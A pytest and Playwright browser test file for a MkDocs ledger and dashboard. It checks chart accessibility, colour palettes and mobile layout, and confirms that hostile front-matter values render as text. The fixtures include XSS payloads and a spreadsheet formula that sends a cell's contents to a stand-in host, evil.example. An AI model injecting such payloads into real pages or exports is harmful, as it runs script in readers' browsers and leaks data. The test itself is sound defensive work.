"""The ledger and the dashboard as people see them in Chromium: charts with a name and the
right bars, in both palettes; the ledger as cards on a phone; and what a hostile editor puts in
the lifecycle fields shown as text, never run."""
from __future__ import annotations

import csv
import io

import pytest

from tests.support.browser import chromium_fixture, serve_folder
from tests.support.project import make_project, run_mkdocs
from tests.support.rounds import BUILT_AFTER_DEADLINE, ROUND_DOCS, epoch

browser = chromium_fixture(scope="module")

HOSTILE_UNIT = '<img src=x onerror="alert(1)">局办公室'
HOSTILE_OWNER = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
HOSTILE_ROUND = "</text><script>alert(2)</script>第二轮"
HOSTILE_MILESTONE = '<b onmouseover="alert(3)">制定学习计划</b>'


def _hostile(docs: dict[str, str]) -> dict[str, str]:
    docs = dict(docs)
    docs["measures/measure-01.md"] = docs["measures/measure-01.md"].replace(
        "owner_unit: 局办公室", f"owner_unit: '{HOSTILE_UNIT}'").replace("owner: 分管副局长", f"owner: '{HOSTILE_OWNER}'")
    docs["reports/report-02.md"] = docs["reports/report-02.md"].replace("round: 第二轮", f'round: "{HOSTILE_ROUND}"')
    docs["measures/measure-03.md"] = docs["measures/measure-03.md"].replace("text: 制定学习计划", f"text: '{HOSTILE_MILESTONE}'")
    assert docs != dict(ROUND_DOCS)
    return docs


@pytest.fixture(scope="module")
def sites(tmp_path_factory):
    root = tmp_path_factory.mktemp("rectification")
    built = {}
    for name, docs in (("plain", ROUND_DOCS), ("hostile", _hostile(ROUND_DOCS))):
        result = run_mkdocs(make_project(root / name, docs), env={"SOURCE_DATE_EPOCH": epoch(BUILT_AFTER_DEADLINE)})
        assert result.ok, result.output
        built[name] = result
    return built


@pytest.fixture(scope="module")
def plain_url(sites):
    with serve_folder(sites["plain"].site) as url:
        yield url


@pytest.fixture(scope="module")
def hostile_url(sites):
    with serve_folder(sites["hostile"].site) as url:
        yield url


def open_page(browser, url: str, *, width: int = 1366, scheme: str | None = None):
    context = browser.new_context(viewport={"width": width, "height": 900})
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(url)
    if scheme:
        page.evaluate("scheme => document.body.setAttribute('data-md-color-scheme', scheme)", scheme)
    return page, dialogs


def bars(page, chart: str) -> dict[str, float]:
    """The chart's bars by their tooltip (“第一轮：整改中 1 项”) → drawn width."""
    return page.eval_on_selector_all(
        f"#kb-chart-{chart}-title ~ rect", "rects => Object.fromEntries(rects.filter(r => r.querySelector('title'))"
        ".map(r => [r.querySelector('title').textContent, r.getBoundingClientRect().width]))")


def test_charts_are_named_images_with_the_right_bars(browser, plain_url):
    page, _ = open_page(browser, plain_url + "measures/progress/")
    chart = page.get_by_role("img", name="整改进展按督导轮次")
    assert chart.is_visible()
    description = page.eval_on_selector("#kb-chart-round-desc", "d => d.textContent")
    assert description.startswith("第一轮：共 2 项，待整改 1 项、整改中 1 项，完成 0 项（0%），逾期 1 项；第二轮：共 1 项")
    widths = bars(page, "round")
    assert set(widths) == {"第一轮：待整改 1 项", "第一轮：整改中 1 项", "第二轮：已销号 1 项"}
    # One scale for every bar: each of these stands for one measure.
    assert widths["第一轮：待整改 1 项"] == pytest.approx(widths["第二轮：已销号 1 项"], rel=0.01)
    assert widths["第二轮：已销号 1 项"] > 50
    units = bars(page, "unit")
    assert units["局办公室：整改中 1 项"] == pytest.approx(units["待明确：待整改 1 项"], rel=0.01)
    page.context.close()


@pytest.mark.parametrize("scheme", ["default", "slate"])
def test_chart_text_takes_the_page_colour_in_both_palettes(browser, plain_url, scheme):
    page, _ = open_page(browser, plain_url + "measures/progress/", scheme=scheme)
    text_fill = page.eval_on_selector(".kb-chart__text", "t => getComputedStyle(t).fill")
    body_colour = page.eval_on_selector(".md-typeset", "t => getComputedStyle(t).color")
    assert text_fill == body_colour
    bar_fill = page.eval_on_selector(".kb-chart__bar", "b => getComputedStyle(b).fill")
    assert bar_fill not in ("rgb(0, 0, 0)", "none")  # the status colour, not SVG's default black
    page.context.close()


def test_ledger_is_a_stack_of_cards_on_a_phone(browser, plain_url):
    page, _ = open_page(browser, plain_url + "measures/ledger/", width=375)
    assert page.evaluate("document.documentElement.scrollWidth") <= 375
    label = page.eval_on_selector(".kb-ledger td:nth-child(6)", "td => getComputedStyle(td, '::before').content")
    assert label == '"整改状态"'
    page.context.close()
    wide, _ = open_page(browser, plain_url + "measures/ledger/", width=1366)
    # Negative control: at 1366 px the ledger is a table with its header row, no labels in cells.
    assert wide.eval_on_selector(".kb-ledger td:nth-child(6)", "td => getComputedStyle(td, '::before').content") == "none"
    assert wide.is_visible(".kb-ledger thead th")
    wide.context.close()


@pytest.mark.parametrize("path", ["measures/progress/", "measures/ledger/", "measures/measure-01/", "measures/measure-03/"])
def test_hostile_lifecycle_fields_show_as_text(browser, hostile_url, path):
    page, dialogs = open_page(browser, hostile_url + path)
    page.mouse.move(300, 300)
    for element in page.query_selector_all("article b, article *[onmouseover]"):
        element.hover()
    text = page.inner_text("article")
    assert dialogs == []
    assert page.eval_on_selector_all("article script, article [onerror], article [onmouseover], article img",
                                     "nodes => nodes.length") == 0
    shown = {"measures/progress/": ["局办公室", "第二轮"], "measures/ledger/": ["局办公室", HOSTILE_OWNER],
             "measures/measure-01/": [HOSTILE_UNIT], "measures/measure-03/": [HOSTILE_MILESTONE]}[path]
    for value in shown:
        assert value in text, value  # shown as text a reader sees, not only somewhere in the source
    page.context.close()


def test_hostile_labels_stay_text_inside_the_charts(browser, hostile_url):
    page, dialogs = open_page(browser, hostile_url + "measures/progress/")
    labels = page.eval_on_selector_all("svg .kb-chart__text", "nodes => nodes.map(n => n.textContent)")
    assert any(HOSTILE_UNIT[:10] in label for label in labels)
    assert any("</text><script>" in label for label in labels)
    assert page.eval_on_selector_all("svg script, svg [onerror]", "nodes => nodes.length") == 0 and dialogs == []
    page.context.close()


def test_spreadsheet_cells_never_start_a_formula(sites):
    raw = (sites["hostile"].site / "exports" / "ledger.csv").read_bytes().decode("utf-8-sig")
    owners = [row["责任人"] for row in csv.DictReader(io.StringIO(raw))]
    assert "'" + HOSTILE_OWNER in owners
    plain = (sites["plain"].site / "exports" / "ledger.csv").read_bytes().decode("utf-8-sig")
    assert "分管副局长" in plain  # control: ordinary text is written as it is


def overflowing_text(page) -> list[str]:
    """Chart texts drawn past their chart's right edge."""
    return page.evaluate("""() => [...document.querySelectorAll('svg.kb-chart__svg')].flatMap(svg => {
        const edge = svg.getBoundingClientRect().right + 0.5;
        return [...svg.querySelectorAll('text')].filter(t => t.getBoundingClientRect().right > edge).map(t => t.textContent);
    })""")


@pytest.mark.parametrize("width", [1366, 375])
def test_no_chart_text_runs_past_the_edge(browser, hostile_url, width):
    page, _ = open_page(browser, hostile_url + "measures/progress/", width=width)
    assert overflowing_text(page) == []
    # Control: a figure moved past the edge is caught.
    page.evaluate("() => { const t = document.querySelector('svg.kb-chart__svg text[text-anchor=end]');"
                  " t.setAttribute('x', '520'); }")
    assert len(overflowing_text(page)) == 1
    page.context.close()
